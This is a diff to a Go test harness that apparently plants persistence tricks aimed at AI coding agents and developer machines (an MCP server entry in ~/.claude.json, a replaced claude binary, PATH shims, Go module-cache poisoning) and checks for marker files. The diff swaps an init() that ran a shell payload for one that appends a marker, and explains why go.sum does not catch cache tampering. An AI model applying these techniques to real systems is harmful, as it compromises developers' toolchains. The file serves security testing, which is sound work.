@@ -94,8 +94,8 @@ import (
 //   - claude-mcp (6): add an MCP server running a payload to ~/.claude.json
 //   - claude-self (6, 7): replace the claude program found on PATH (when
 //     it is writable) by a payload that then runs the original
-//   - gomodcache (7): add a file with an init() that runs a payload to the
-//     module [module] (path@version) in the module cache [modcache]
+//   - gomodcache (7): append an init() that writes the marker to a file of
+//     the module [module] (path@version) in the module cache [modcache]
 //     (default $GOMODCACHE, else ~/go/pkg/mod)
 //   - path-shim (7): plant a payload named [shims] (default git) in every
 //     writable directory of $PATH that comes before the real program
@@ -762,11 +762,19 @@ func claudeSelf(p params) (string, error) {
 	return "replaced " + path, nil
 }
 
-// poisonModule adds a file whose init() runs a payload to a module of the
-// module cache, keeping its imports: the user's next build or test of a
-// program that imports it runs it.
+// poisonModule appends an init() to a Go file of the module [module]
+// (path@version) in the module cache that imports "os", using nothing
+// else: its imports kept, and its file list too (the go command indexes a
+// cached module's files once and would not see a new one), the user's next
+// build of a program that imports it compiles it, and its next go test or
+// go run runs it. go.sum is checked when a module is downloaded, not when
+// it is used.
 func poisonModule(p params) (string, error) {
 	mod, err := p.need("module")
+	if err != nil {
+		return "", err
+	}
+	marker, err := p.need("marker")
 	if err != nil {
 		return "", err
 	}
@@ -775,30 +783,24 @@ func poisonModule(p params) (string, error) {
 		cache = filepath.Join(os.Getenv("HOME"), "go", "pkg", "mod")
 	}
 	dir := filepath.Join(cache, mod)
-	files, err := filepath.Glob(filepath.Join(dir, "*.go"))
-	if err != nil || len(files) == 0 {
-		return "", fmt.Errorf("no Go file in %s", dir)
-	}
-	pkg := ""
-	b, _ := os.ReadFile(files[0])
-	for _, l := range strings.Split(string(b), "\n") {
-		if name, ok := strings.CutPrefix(l, "package "); ok {
-			pkg = strings.TrimSpace(name)
-			break
+	files, _ := filepath.Glob(filepath.Join(dir, "*.go"))
+	for _, f := range files {
+		b, err := os.ReadFile(f)
+		if err != nil || strings.HasSuffix(f, "_test.go") || !bytes.Contains(b, []byte(`"os"`)) {
+			continue
 		}
+		src := fmt.Sprintf("\nfunc init() {\n\tif f, err := os.OpenFile(%q, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644); err == nil {\n"+
+			"\t\tf.WriteString(\"module init ran: in \" + os.Args[0] + \"\\n\")\n\t\tf.Close()\n\t}\n}\n", marker)
+		_ = os.Chmod(dir, 0o755)
+		if err := os.Chmod(f, 0o644); err != nil {
+			return "", err
+		}
+		if err := appendFile(f, src); err != nil {
+			return "", err
+		}
+		return "init() appended to " + f, nil
 	}
-	script := filepath.Join(dir, "zz_payload.sh")
-	if err := os.Chmod(dir, 0o755); err != nil {
-		return "", err
-	}
-	if err := writePayload(p, script, "module init", "exit 0"); err != nil {
-		return "", err
-	}
-	src := fmt.Sprintf("package %s\n\nimport \"os/exec\"\n\nfunc init() { _ = exec.Command(\"/bin/sh\", %q).Run() }\n", pkg, script)
-	if err := os.WriteFile(filepath.Join(dir, "zz_init.go"), []byte(src), 0o644); err != nil {
-		return "", err
-	}
-	return "init() added to " + dir, nil
+	return "", fmt.Errorf("no Go file importing os in %s", dir)
 }
 
 // pathShims plants a payload named after each of [shims] in the writable
@@ -1228,6 +1230,21 @@ func init() {
 	scriptCmds["anyexit"] = cmdAnyexit
 	scriptCmds["nomarker"] = cmdNomarker
 	scriptCmds["evidence"] = cmdEvidence
+	scriptCmds["gocache"] = cmdGocache
+}
+
+// cmdGocache sets VAR to the Go build cache of the test's own user (go env
+// GOCACHE), for the scripts' own go commands: a fresh cache would build
+// the standard library again, for a minute. The agents never get it.
+//
+//	gocache VAR
+func cmdGocache(ts *testscript.TestScript, neg bool, args []string) {
+	if neg || len(args) != 1 {
+		ts.Fatalf("usage: gocache VAR")
+	}
+	out, err := exec.Command("go", "env", "GOCACHE").Output()
+	ts.Check(err)
+	ts.Setenv(args[0], strings.TrimSpace(string(out)))
 }
 
 // cmdEvidence shows the marker file FILE, when there is one, and removes
